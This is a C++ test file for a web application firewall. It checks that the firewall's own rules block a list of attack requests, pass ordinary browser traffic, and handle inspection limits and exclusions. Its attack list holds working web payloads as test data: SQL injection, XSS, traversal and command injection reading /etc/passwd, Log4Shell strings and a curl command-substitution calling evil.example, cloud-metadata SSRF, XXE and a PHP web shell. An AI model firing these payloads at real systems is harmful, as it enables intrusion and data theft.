// Goal: attacks are blocked by the own rules alone, honest requests pass, and nothing is skipped
// (W-19 to W-25, W-74, W-75). Method: whole requests as a browser or an attacker sends them, in
// parsed form.

#include "support.h"

#include "base/bytes.h"
#include "http/message.h"
#include "waf/inspect.h"

#include <catch2/catch.hpp>

#include <map>

using namespace weir;
using namespace weir::waf;

namespace {

std::shared_ptr<const RuleSet> own_rules(RuleSetOptions options = {}) {
  auto rules = RuleSet::own(options);
  REQUIRE(rules.ok());
  return *rules;
}

struct Sent {
  std::string method = "GET";
  std::string path = "/";
  std::string query = "";
  std::vector<http::Field> more = {};
  std::string type = "";
  std::string body = "";
};

// The fields of a current browser, then the request's own.
std::vector<http::Field> fields_of(const Sent& sent) {
  std::vector<http::Field> fields{
      {"host", "www.example.com"},
      {"user-agent",
       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
       "Safari/537.36"},
      {"accept",
       "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/"
       "*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
      {"accept-language", "en-GB,en-US;q=0.9,en;q=0.8,de;q=0.7"},
      {"accept-encoding", "gzip, deflate, br, zstd"},
      {"sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\""},
      {"sec-ch-ua-mobile", "?0"},
      {"sec-ch-ua-platform", "\"Linux\""},
      {"sec-fetch-site", "same-origin"},
      {"sec-fetch-mode", "navigate"},
      {"upgrade-insecure-requests", "1"},
      {"referer", "https://www.example.com/blog/a-walk-by-the-river/?page=2&sort=new"},
      {"cookie", "_ga=GA1.2.1203945.1718000000; theme=dark; session=eyJ1IjoiYW5uIn0.ZnR0.9xQm-_a1"},
  };
  for (const http::Field& field : sent.more) {
    std::erase_if(fields, [&](const http::Field& old) { return old.name == field.name; });
    fields.push_back(field);
  }
  if (!sent.type.empty()) fields.push_back({"content-type", sent.type});
  return fields;
}

struct Judged {
  int score = 0;
  std::string hits;
};
Judged judge(Inspector& inspector, const Sent& sent) {
  const std::vector<http::Field> fields = fields_of(sent);
  const WafRequest request{sent.method, sent.path, sent.query, fields};
  Judged out;
  const auto add = [&](const Verdict& verdict) {
    out.score += verdict.score;
    for (const Hit& hit : verdict.hits)
      out.hits += std::to_string(hit.rule) + ' ' + std::string(name_of(hit.target)) + ':' +
                  std::string(hit.name) + "; ";
  };
  add(inspector.inspect_head(request));
  if (!sent.body.empty()) add(inspector.inspect_body(request, sent.body));
  return out;
}

const std::string form = "application/x-www-form-urlencoded";
const std::string json = "application/json";

// The first twelve are the bench's; the others are the same ideas in other clothes.
const std::vector<Sent>& attacks() {
  static const std::vector<Sent> all{
      {.path = "/item", .query = "id=1%27%20OR%20%271%27%3D%271"},
      {.path = "/item", .query = "id=-1+UNION+SELECT+username,password+FROM+users--"},
      {.path = "/search", .query = "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
      {.path = "/search", .query = "q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"},
      {.path = "/download", .query = "file=../../../../etc/passwd"},
      {.path = "/static/..%252f..%252f..%252fetc/passwd"},
      {.path = "/ping", .query = "host=127.0.0.1;cat%20/etc/passwd"},
      {.more = {{"user-agent", "${jndi:ldap://evil.example/a}"}}},
      {.more = {{"user-agent", "() { :; }; /bin/bash -c 'id'"}}},
      {.method = "POST",
       .path = "/login",
       .type = json,
       .body = R"({"user":"admin","password":{"$ne":null}})"},
      {.method = "POST",
       .path = "/fetch",
       .type = form,
       .body = "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
      {.method = "POST", .path = "/hello", .type = form, .body = "name=%7B%7B7*7%7D%7D"},
      {.path = "/item", .query = "id=1;WAITFOR%20DELAY%20%270:0:5%27"},
      {.path = "/item", .query = "id=1%20and%20sleep(5)"},
      {.path = "/item", .query = "id=1/**/uNiOn/**/sElEcT/**/1,2"},
      {.path = "/item", .query = "id=%2527%2520or%25201%253D1--"},
      {.path = "/search", .query = "q=%3Csvg%2Fonload%3Dalert%601%60%3E"},
      {.path = "/search", .query = "q=%26lt%3Bscript%26gt%3Balert(1)"},
      {.path = "/go", .query = "next=javascript:alert(1)"},
      {.path = "/.git/config"},
      {.path = "/.env"},
      {.path = "/page", .query = "file=php://filter/convert.base64-encode/resource=index"},
      {.path = "/x", .query = "cmd=%24(curl%20http://evil.example/x)"},
      {.path = "/x", .query = "a%5B__proto__%5D%5Badmin%5D=1"},
      {.method = "POST",
       .path = "/x",
       .type = json,
       .body = R"({"a":{"__proto__":{"admin":true}}})"},
      {.method = "POST",
       .path = "/x",
       .type = json,
       .body = R"({"constructor":{"prototype":{"admin":true}}})"},
      {.method = "POST",
       .path = "/x",
       .type = "application/xml",
       .body = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"},
      {.method = "POST",
       .path = "/x",
       .type = form,
       .body = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
      {.more = {{"cookie", "sid=O:8:\"Evil_Obj\":1:{s:1:\"x\";s:2:\"id\";}"}}},
      {.more = {{"cookie", "sid=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}}},
      {.more = {{"x-original-url", "/admin"}}},
      {.more = {{"user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}}},
      {.more = {{"authorization",
                 "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9."}}},
      {.more = {{"content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"}}},
      {.path = "/x", .query = "u=http://2130706433/"},
      {.path = "/x", .query = "u=gopher://127.0.0.1:6379/_INFO"},
      {.path = "/x", .query = "a=x%0d%0aSet-Cookie:%20a=b"},
      {.path = "/x", .query = "user=*)(uid=*))(%7C(uid=*"},
      {.path = "/x", .query = "f=a.php%00.jpg"},
      {.method = "POST",
       .path = "/u",
       .type = "multipart/form-data; boundary=XX",
       .body = "--XX\r\nContent-Disposition: form-data; name=\"f\"; "
               "filename=\"a.php.jpg\"\r\n\r\nGIF89a\r\n--XX--\r\n"},
      {.method = "POST",
       .path = "/u",
       .type = "multipart/form-data; boundary=XX",
       .body = "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1 union select "
               "2\r\n--XX--\r\n"},
      {.method = "POST",
       .path = "/u",
       .type = json,
       .body = R"({"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"})"},
      {.method = "POST", .path = "/u", .type = json, .body = R"({"q":"x","q":"1' or '1'='1"})"},
      {.method = "POST", .path = "/u", .type = json, .body = R"([{"a":[["${jndi:dns://x}"]]}])"},
      {.method = "POST",
       .path = "/u",
       .type = "text/plain",
       .body = "<?php system($_GET['c']); ?>"},
  };
  return all;
}

const std::vector<Sent>& clean_requests() {
  static const std::vector<Sent> all = [] {
    std::vector<Sent> out;
    for (const char* path :
         {"/", "/blog/", "/blog/a-walk-by-the-river/", "/docs/getting-started/", "/tags/water/",
          "/static/site.7f3a9c.css", "/images/weir-at-dawn-2048.webp", "/about/", "/atom.xml",
          "/sitemap.xml", "/.well-known/security.txt", "/de/%C3%BCber-uns/",
          "/handbook/chapter-3/#top"})
      out.push_back({.path = path});
    out.push_back({.path = "/search", .query = "q=select+a+good+union+of+colours&page=2"});
    out.push_back({.path = "/search", .query = "q=O%27Brien%20%26%20sons&sort=-date"});
    out.push_back({.path = "/search", .query = "q=how+to+drop+a+table+of+contents"});
    out.push_back(
        {.path = "/products", .query = "filter%5Bprice%5D=10-20&filter%5Bcolor%5D=blue&ids=1,2,3"});
    out.push_back({.path = "/img",
                   .query = "url=https%3A%2F%2Fcdn.example.com%2Fa%2Fb.png%3Fw%3D200&w=640&q=75"});
    out.push_back({.path = "/oauth/callback",
                   .query = "code=4/0AX4XfWh-abc_DEF123&state=af0ifjsldkj&scope=openid%20email"});
    out.push_back({.path = "/map", .query = "bbox=-0.51,51.28,0.33,51.69&zoom=11"});
    out.push_back({.method = "POST",
                   .path = "/contact",
                   .type = form,
                   .body = "name=Ann+O%27Hara&email=ann.ohara%40example.org&message=Hello%2C+I+"
                           "would+like+to+visit+on+Sunday%3B+is+the+path+open%3F%0D%0A%0D%0AThanks+"
                           "%26+best+wishes%2C%0D%0AAnn"});
    out.push_back(
        {.method = "POST",
         .path = "/login",
         .type = form,
         .body = "user=ann&password=c0rrect-Horse!battery_staple%23%25&csrf=9f8e7d6c5b4a"});
    out.push_back({.method = "POST",
                   .path = "/subscribe",
                   .type = form,
                   .body = "email=bob%2Bnews%40example.com&topics=rivers&topics=locks"});
    out.push_back(
        {.method = "POST",
         .path = "/api/orders",
         .type = json,
         .body =
             R"({"customer":{"name":"José Núñez","address":"12 Mill Lane (rear entrance), Ely"},"items":[{"sku":"WR-100","qty":2,"price":19.95}],"note":"Don't ring; the baby's asleep -- thanks!"})"});
    out.push_back(
        {.method = "POST",
         .path = "/sync/notes/ops",
         .type = json,
         .body =
             R"({"ops":[{"id":"01J0ABCDEF","e":"note:7","f":"title","v":"Chapter 1: \"The Lock-Keeper\"","t":"1718000000000-0001-a1b2"}]})"});
    out.push_back(
        {.method = "POST",
         .path = "/api/comments",
         .type = json,
         .body =
             R"({"text":"I think 5 > 3 and 2 < 4, so either 1 or 2 works = good. See https://example.com/a?b=c#d","parent":null,"ok":true})"});
    out.push_back({.path = "/api/me",
                   .more = {{"authorization",
                             "Bearer "
                             "eyJhbGciOiJFUzI1NiIsImtpZCI6ImsxIiwidHlwIjoiSldUIn0."
                             "eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl"}}});
    out.push_back({.path = "/feed",
                   .more = {{"if-none-match", "\"5f3a-9c1b\", W/\"abc\""},
                            {"user-agent", "FreshRSS/1.24 (Linux; https://freshrss.org)"}}});
    return out;
  }();
  return all;
}

}  // namespace

TEST_CASE("the own rules alone block every attack of the set", "[waf]") {
  Inspector inspector(own_rules());
  for (const Sent& sent : attacks()) {
    const Judged judged = judge(inspector, sent);
    INFO(sent.path << '?' << sent.query << ' ' << sent.body << " -> " << judged.hits);
    CHECK(judged.score >= 25);
  }
}

TEST_CASE("honest requests with a browser's headers score nothing", "[waf]") {
  Inspector inspector(own_rules());
  REQUIRE(clean_requests().size() >= 26);
  for (const Sent& sent : clean_requests()) {
    const Judged judged = judge(inspector, sent);
    INFO(sent.path << '?' << sent.query << ' ' << sent.body << " -> " << judged.hits);
    CHECK(judged.score == 0);
  }
}

TEST_CASE("scores fall into bands: a warning is logged, a critical hit is blocked", "[waf]") {
  const Bands bands;
  CHECK(bands.of(0) == Band::allow);
  CHECK(bands.of(9) == Band::allow);
  CHECK(bands.of(10) == Band::log);
  CHECK(bands.of(24) == Band::log);
  CHECK(bands.of(25) == Band::block);
  Inspector inspector(own_rules());
  CHECK(judge(inspector, {.path = "/wp-login.php"}).score == 10);
  CHECK(judge(inspector, {.path = "/index.php.bak"}).score == 15);
  CHECK(judge(inspector, {.path = "/shell.jsp"}).score == 25);
}

TEST_CASE("a hit names its rule, its target and where it was", "[waf]") {
  Inspector inspector(own_rules());
  const std::vector<http::Field> fields{{"x-api-version", "see ${jndi:ldap://a}"}};
  const Verdict verdict = inspector.inspect_head({"GET", "/", "", fields});
  REQUIRE(verdict.hits.size() == 1);
  CHECK(verdict.hits[0].rule == 30000101);
  CHECK(verdict.hits[0].rule_name == "log4shell");
  CHECK(verdict.hits[0].target == Target::headers);
  CHECK(verdict.hits[0].name == "x-api-version");
  CHECK(verdict.hits[0].offset == 4);

  const std::vector<http::Field> typed{{"content-type", "application/json; charset=utf-8"}};
  const Verdict body =
      inspector.inspect_body({"POST", "/", "", typed}, R"({"a":{"b":["x","${jndi:x}"]}})");
  REQUIRE(body.hits.size() == 1);
  CHECK(body.hits[0].name == "a.b.1");
}

TEST_CASE("a rule counts once for a request, however often it hits", "[waf]") {
  Inspector inspector(own_rules());
  CHECK(judge(inspector, {.query = "a=${jndi:x}&b=${jndi:y}&c=${jndi:z}"}).score == 25);
}

TEST_CASE("head and body are judged apart, and one request leaves nothing for the next", "[waf]") {
  Inspector inspector(own_rules());
  const std::vector<http::Field> typed{{"content-type", "application/x-www-form-urlencoded"}};
  const WafRequest request{"POST", "/", "a=${jndi:x}", typed};
  CHECK(inspector.inspect_head(request).score == 25);
  CHECK(inspector.inspect_body(request, "b=fine").score == 0);
  CHECK(inspector.inspect_body(request, "b=${jndi:x}").score == 25);
  CHECK(inspector.inspect_head({"GET", "/", "", {}}).score == 0);
}

TEST_CASE("what was found clean is remembered, by all its bytes", "[waf]") {
  const Sent sent;
  // The places are drawn by a secret hash, two values each: three of these 14 want the same one in
  // half a percent of all draws, and push each other out. Not in three draws in a row.
  const auto looked_at_anew = [&sent](Inspector& fresh) {
    judge(fresh, sent);
    const std::uint64_t values = fresh.counts().values;
    judge(fresh, sent);
    return fresh.counts().values - values;
  };
  auto drawn = std::make_unique<Inspector>(own_rules());
  std::uint64_t anew = looked_at_anew(*drawn);
  for (int draw = 1; draw < 3 && anew != 0; ++draw) {
    drawn = std::make_unique<Inspector>(own_rules());
    anew = looked_at_anew(*drawn);
  }
  Inspector& inspector = *drawn;
  CHECK(anew == 0);
  CHECK(inspector.counts().remembered == 14);
  // The same value under another name, and a value that differs in one byte, are looked at.
  CHECK(judge(inspector, {.more = {{"x-rewrite-url", "/ok"}}}).score == 25);
  CHECK(judge(inspector, {.more = {{"x-other", "/ok"}}}).score == 0);
  CHECK(judge(inspector, {.more = {{"x-rewrite-url", "/ok"}}}).score == 25);
}

TEST_CASE("what is more than can be inspected scores 25, and is never skipped", "[waf]") {
  Inspector inspector(own_rules());
  const std::vector<http::Field> as_form{{"content-type", form}}, as_json{{"content-type", json}};
  const auto body = [&](const std::vector<http::Field>& fields, const std::string& bytes) {
    return inspector.inspect_body({"POST", "/", "", fields}, bytes);
  };
  std::string many;
  for (std::size_t i = 0; i < limits::waf_arguments_max; ++i) many += "a=1&";
  CHECK(body(as_form, many).score == 0);
  CHECK(body(as_form, many + "a=1").bound_exceeded);
  CHECK(body(as_form, many + "a=1").score == 25);
  const auto nested = [](std::size_t depth) {
    return std::string(depth, '[') + std::string(depth, ']');
  };
  CHECK(body(as_json, nested(limits::waf_json_depth_max)).score == 0);
  CHECK(body(as_json, nested(limits::waf_json_depth_max + 1)).score == 25);
  CHECK(body({}, std::string(limits::waf_body_bytes_max, 'a')).score == 0);
  CHECK(body({}, std::string(limits::waf_body_bytes_max + 1, 'a')).score == 25);
  // The record says why: the bound is a hit like any other.
  const Verdict over = body({}, std::string(limits::waf_body_bytes_max + 1, 'a'));
  REQUIRE(over.hits.size() == 1);
  CHECK(over.hits[0].rule_name == "bound-exceeded");
}

TEST_CASE("a body that its consumer reads as JSON is inspected as JSON, whatever it declares",
          "[waf]") {
  Inspector inspector(own_rules());
  const std::string hidden = R"({"ops":[{"v":"\u0027 UNION \u0053ELECT password FROM users--"}]})";
  const std::string encoded =
      R"({"sets":[{"k":"a","b64":"JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t"}]})";
  for (const std::string_view type :
       {"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""}) {
    INFO(type);
    const std::vector<http::Field> fields{{"content-type", type}};
    for (const std::string& text : {hidden, encoded})
      CHECK(inspector.inspect_body({"POST", "/sync/d/ops", "", fields, BodyReading::json}, text)
                .score >= 25);
  }
  const std::vector<http::Field> form_type{{"content-type", form}};
  const std::string clean = R"({"ops":[{"v":"a & b = c, 100 %"}]})";
  CHECK(inspector.inspect_body({"POST", "/sync/d/ops", "", form_type, BodyReading::json}, clean)
            .score == 0);
}

TEST_CASE("a body of 1 MiB in small values is inspected whole where its route takes that much",
          "[waf]") {
  Inspector inspector(own_rules(), {.body_bytes_max = limits::sync_body_bytes_max});
  const std::vector<http::Field> as_json{{"content-type", json}};
  std::string body = "[1";
  while (body.size() < limits::sync_body_bytes_max - 64) body += ",1";
  CHECK(inspector.inspect_body({"POST", "/", "", as_json}, body + "]").score == 0);
  CHECK(inspector
            .inspect_body({"POST", "/", "", as_json},
                          body + ",\"' UNION SELECT password FROM users--\"]")
            .score >= 25);
}

TEST_CASE("a JSON body that cannot be read is logged and inspected raw", "[waf]") {
  Inspector inspector(own_rules());
  const std::vector<http::Field> as_json{{"content-type", json}};
  for (const char* bad :
       {"{", "{\"a\":}", "{\"a\" 1}", "[1,]", "\"x", "{a:1}", "[1] 2", "\"\\q\"", ""}) {
    INFO(bad);
    CHECK(inspector.inspect_body({"POST", "/", "", as_json}, bad).score == 15);
  }
  CHECK(inspector.inspect_body({"POST", "/", "", as_json}, "{\"a\": <?php system('id')").score ==
        40);
}

TEST_CASE("an exclusion switches a rule off where it says, and nowhere else", "[waf]") {
  const auto rules =
      own_rules({.exclusions = {{.rule = 30000301, .path = "/search", .target = "args:q"},
                                {.tag = "probe", .path = "/old/"}}});
  Inspector inspector(rules);
  const auto hits = [&](const Sent& sent, const char* id) {
    return judge(inspector, sent).hits.find(id) != std::string::npos;
  };
  CHECK_FALSE(hits({.path = "/search", .query = "q=1+union+select+2"}, "30000301"));
  CHECK(hits({.path = "/search", .query = "r=1+union+select+2"}, "30000301"));
  CHECK(hits({.path = "/other", .query = "q=1+union+select+2"}, "30000301"));
  CHECK(judge(inspector, {.path = "/old/.git/config"}).score == 0);
  CHECK(judge(inspector, {.path = "/.git/config"}).score == 25);
}

TEST_CASE("ordinary English makes no rule fire", "[waf]") {
  // Sentences written for this test: punctuation, quotes, numbers, and words that attackers also
  // use.
  const std::vector<std::string> sentences{
      "The mill's wheel turned slowly; nobody noticed, or if they did, they didn't say.",
      "\"Select whichever you like,\" she said, \"and drop the rest on the table.\"",
      "He paid 5 or 6 pounds -- more than it was worth, and less than he had.",
      "Where is the update from the union? I'd like to insert a comment and then delete it.",
      "If 1 = one and 2 = two, then 3 must be three (unless you count from zero).",
      "Cats & dogs; rain; mud; sleep. That was the whole of March!",
      "Mix the eggs, then set the oven to 180; wait 25 minutes, and don't open the door.",
      "It's a truth universally ignored that 'quick' jobs aren't.",
      "Is it \"O'Neill\" or \"O'Neal\"? Either way: 100% of them said no.",
      "The list: (a) bread, (b) milk, (c) tea; and #4 - salt.",
      "She asked, 'What's the password?' and he whispered: swordfish*.",
      "Between 10 and 20 people like it; under 5 hate it; the others can't decide.",
      "Having nothing to order, we left by the back door and went home.",
      "I <3 this river, and so do 9/10 of my friends :-)",
      "Exec summary: system works, shell is empty, script is on page 3.",
      "Call me at +44 (0)20 7946 0000, or write to me@example.org.",
      "The file is in ~/notes/2024/ (or was); see also ../README for more.",
      "Price: $5.00 {approx}, that is 5 * 0.9 = 4.50 in euros.",
      "We don't mind if it's late; we do mind if it's wrong, though.",
      "Group by colour, order by size, limit yourself to 3!",
      "Let x = y; then y = x. That's symmetry, isn't it?",
      "'Twas the night before the flood; and all the gates were up.",
      "Come to the meeting on 3/4 at 5:30pm -- bring 2 copies each.",
      "A man, a plan, a canal: and a weir (1794) at the end of it.",
      "To: everyone\nSubject: Sunday\n\nBring boots. Or don't. -- Ann",
      "\"No\" means no; \"yes\" means maybe; and 'perhaps' means come back at 6.",
  };
  Inspector inspector(own_rules(), {.clean_memory = CleanMemory::off});
  for (const std::string& sentence : sentences) {
    for (const Target target : {Target::args, Target::cookies, Target::headers, Target::body}) {
      const Verdict verdict = inspector.inspect_value(target, "text", sentence);
      INFO(sentence << " -> "
                    << (verdict.hits.empty() ? std::string_view() : verdict.hits[0].rule_name));
      CHECK(verdict.score == 0);
    }
  }
}

TEST_CASE("tokens, addresses and identifiers make no rule fire", "[waf]") {
  const std::vector<std::string> values{"550e8400-e29b-41d4-a716-446655440000",
                                        "c29tZSB0ZXh0IGluIGJhc2U2NA==",
                                        "GA1.2.1203945.1718000000",
                                        "2024-06-10T12:34:56.789Z",
                                        "https://user@example.com:8443/a/b;c=1?d=e&f=g#h",
                                        "ann.o'hara+news@example.co.uk",
                                        "v1.2.3-rc.1+build.5",
                                        "a,b,c",
                                        "[1,2,3]",
                                        "{\"k\":\"v\",\"n\":[1,2]}",
                                        "#ff00aa",
                                        "+1 (555) 010-9999",
                                        "C++",
                                        "a&b",
                                        "key=value",
                                        "@handle",
                                        "../up",
                                        "100%",
                                        "50% off",
                                        "~",
                                        "*",
                                        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
                                        "W/\"5f3a-9c1b\"",
                                        "bytes=0-1023",
                                        "text/html; charset=\"utf-8\"",
                                        "max-age=0, no-cache",
                                        "en-GB,en;q=0.9",
                                        "AAAA//8=",
                                        "mailto:a@example.com",
                                        "10.0.0.1, 192.0.2.4",
                                        "true",
                                        "null",
                                        "-1",
                                        "1e10",
                                        "0x1F"};
  Inspector inspector(own_rules(), {.clean_memory = CleanMemory::off});
  for (const std::string& value : values)
    for (const Target target :
         {Target::args, Target::args_names, Target::cookies, Target::headers}) {
      const Verdict verdict = inspector.inspect_value(target, "x", value);
      INFO(value << " -> "
                 << (verdict.hits.empty() ? std::string_view() : verdict.hits[0].rule_name));
      CHECK(verdict.score == 0);
    }
}
